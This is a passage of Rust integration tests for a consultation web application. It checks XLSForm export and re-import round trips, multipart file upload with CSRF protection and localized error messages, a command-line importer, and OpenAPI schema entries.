    assert_eq!(consultation_count(&app, group.id).await, 0);
}

#[tokio::test]
async fn an_exported_xlsform_imports_back_to_the_same_questions() {
    let app = spawn_app().await;
    let c = app.create_draft_consultation().await;
    let token = &c.facilitator.token;
    let res = app
        .api(
            Method::GET,
            &format!("/api/v1/consultations/{}/exports/form.xlsx", c.slug),
            token,
            None,
        )
        .await;
    assert_eq!(res.status(), 200);
    assert!(
        res.headers()["content-type"]
            .to_str()
            .unwrap()
            .contains("spreadsheetml")
    );
    let bytes = res.bytes().await.unwrap().to_vec();
    // KoboToolbox's column names.
    {
        use calamine::{Reader, Xlsx};
        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes.clone())).unwrap();
        let survey = book.worksheet_range("survey").unwrap();
        let head: Vec<String> = survey
            .rows()
            .next()
            .unwrap()
            .iter()
            .map(ToString::to_string)
            .collect();
        assert!(head.contains(&"label::Arabic (ar)".to_owned()), "{head:?}");
        assert!(head.contains(&"relevant".to_owned()));
        assert!(
            book.worksheet_range("choices").is_ok() && book.worksheet_range("settings").is_ok()
        );
    }
    let res = post_file(&app, &c.group.slug, token, "round.xlsx", "", bytes).await;
    let status = res.status();
    let body: Value = res.json().await.unwrap();
    assert_eq!(status, 201, "{body:#}");
    let before = definition(&app, token, &c.slug).await;
    let after = definition(&app, token, body["slug"].as_str().unwrap()).await;
    assert_eq!(
        before["languages"].as_array().unwrap().len(),
        after["languages"].as_array().unwrap().len()
    );
    assert_eq!(before["default_language"], after["default_language"]);
    let shape = |def: &Value| -> Vec<Value> {
        questions(def)
            .into_iter()
            // XLSForm has no `statements` kind: the form export leaves those out.
            .filter(|q| q["kind"] != "statements")
            .map(|q| {
                let options: Vec<Value> = q["options"]
                    .as_array()
                    .cloned()
                    .unwrap_or_default()
                    .into_iter()
                    .map(|o| serde_json::json!({"code": o["code"], "label": o["label"]}))
                    .collect();
                serde_json::json!({
                    "key": q["key"], "kind": q["kind"], "required": q["required"],
                    "text": q["text"], "help": q["help"], "options": options,
                    "condition": q["condition"], "min": q["min"], "max": q["max"],
                    "max_choices": q["max_choices"], "max_length": q["max_length"],
                })
            })
            .collect()
    };
    assert_eq!(shape(&before), shape(&after));
    let titles = |def: &Value| -> Vec<Value> {
        def["sections"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| serde_json::json!([s["key"], s["title"]]))
            .collect()
    };
    assert_eq!(titles(&before), titles(&after));
    assert_eq!(
        body["report"]["items"],
        serde_json::json!([]),
        "{:#}",
        body["report"]
    );
}

/// A multipart body with the CSRF token and one file.
fn multipart(csrf: &str, name: &str, bytes: &[u8]) -> (String, Vec<u8>) {
    let boundary = "----consultaTestBoundary7MA4YWxk";
    let mut body = Vec::new();
    body.extend_from_slice(
        format!("--{boundary}\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{csrf}\r\n")
            .as_bytes(),
    );
    body.extend_from_slice(
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: application/octet-stream\r\n\r\n"
        )
        .as_bytes(),
    );
    body.extend_from_slice(bytes);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

#[tokio::test]
async fn the_import_page_uploads_a_file_and_the_editor_shows_the_report_until_dismissed() {
    let app = spawn_app().await;
    let (group, user) = facilitator(&app).await;
    let c = app.logged_in(&user).await;
    // Reachable from the group's home.
    let home = app.text_with(&c, &format!("/groups/{}", group.slug)).await;
    assert!(home.contains(&format!("/manage/groups/{}/import", group.slug)));
    let page = app
        .text_with(&c, &format!("/manage/groups/{}/import", group.slug))
        .await;
    assert!(
        page.contains("enctype=\"multipart/form-data\"") && page.contains("type=\"file\""),
        "{page}"
    );
    let csrf = input_value(&page, "csrf").unwrap();
    let upload = |bytes: Vec<u8>, name: &'static str, lang: &'static str| {
        let (ct, body) = multipart(&csrf, name, &bytes);
        c.post(app.url(&format!("/manage/groups/{}/import/file", group.slug)))
            .header("Content-Type", ct)
            .header("Accept-Language", lang)
            .body(body)
            .send()
    };
    // A refusal re-shows the form with the message next to the field, in the reader's language.
    let res = upload(Vec::new(), "empty.csv", "en").await.unwrap();
    assert_eq!(res.status(), 422);
    let html = res.text().await.unwrap();
    assert!(
        html.contains("f-file-error") && html.contains("The file is empty."),
        "{html}"
    );
    let res = upload(b"PK\x03\x04nope".to_vec(), "x.xlsx", "ar")
        .await
        .unwrap();
    assert_eq!(res.status(), 422);
    let html = res.text().await.unwrap();
    assert!(html.contains("تالف"), "{html}");
    // Without the CSRF token: refused.
    let (ct, body) = multipart("wrong", "barrio.csv", rank_list_form().as_bytes());
    let res = c
        .post(app.url(&format!("/manage/groups/{}/import/file", group.slug)))
        .header("Content-Type", ct)
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 403);
    assert_eq!(consultation_count(&app, group.id).await, 0);

    let res = upload(rank_list_form().into_bytes(), "barrio.csv", "en")
        .await
        .unwrap();
    assert_eq!(res.status(), 303);
    let location = res.headers()["location"].to_str().unwrap().to_owned();
    assert!(location.starts_with("/manage/c/"));
    let slug = location.trim_start_matches("/manage/c/").to_owned();
    let editor = app.text_with(&c, &location).await;
    assert!(
        editor.contains("Imported from XLSForm (\u{2068}barrio.csv\u{2069})"),
        "{editor}"
    );
    assert!(
        editor.contains("Row 6 of the survey sheet (\u{2068}email\u{2069})"),
        "{editor}"
    );
    assert!(editor.contains(&format!("/manage/consultations/{slug}/exports/form.xlsx")));
    let res = c
        .get(app.url(&format!("/manage/consultations/{slug}/exports/form.xlsx")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let csrf = input_value(&editor, "csrf").unwrap();
    let res = c
        .post(app.url(&format!("/manage/c/{slug}/import-report/dismiss")))
        .form(&[("csrf", csrf.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303);
    let editor = app.text_with(&c, &location).await;
    assert!(!editor.contains("import-report"));
}

#[tokio::test]
async fn the_command_line_imports_with_the_same_importer() {
    let app = spawn_app().await;
    let (group, _user) = facilitator(&app).await;
    let file = app.data_dir.join("barrio.csv");
    std::fs::write(&file, rank_list_form()).unwrap();
    let run = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_consulta"))
            .arg("import")
            .args(args)
            .env("CONSULTA_DATABASE_URL", &app.database_url)
            .env("CONSULTA_DATA_DIR", &app.data_dir)
            .env("CONSULTA_LOG_LEVEL", "warn")
            .output()
            .expect("consulta import runs")
    };
    let out = run(&[file.to_str().unwrap(), "--group", &group.slug, "--json"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let body: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(body["report"]["questions"]["ranking"], 1);
    assert!(
        body["slug"]
            .as_str()
            .unwrap()
            .starts_with("our-neighbourhood")
    );
    let out = run(&[file.to_str().unwrap(), "--group", &group.slug]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("left out") && stdout.contains("slug: "),
        "{stdout}"
    );
    let empty = app.data_dir.join("empty.xlsx");
    std::fs::write(&empty, b"").unwrap();
    let out = run(&[empty.to_str().unwrap(), "--group", &group.slug]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("The file is empty."));
    assert_eq!(consultation_count(&app, group.id).await, 2);
}

#[tokio::test]
async fn the_import_report_is_in_the_openapi_document() {
    let app = spawn_app().await;
    let doc: Value = app.get("/api/openapi.json").await.json().await.unwrap();
    assert!(doc["paths"]["/api/v1/groups/{group}/imports"]["post"].is_object());
    assert!(doc["paths"]["/api/v1/consultations/{slug}/exports/form.xlsx"]["get"].is_object());
    let schemas = &doc["components"]["schemas"];
    for name in [
        "ImportResult",
        "ImportReport",
        "ReportItem",
        "LanguageMatch",
    ] {
        assert!(schemas[name].is_object(), "{name}");
    }
}
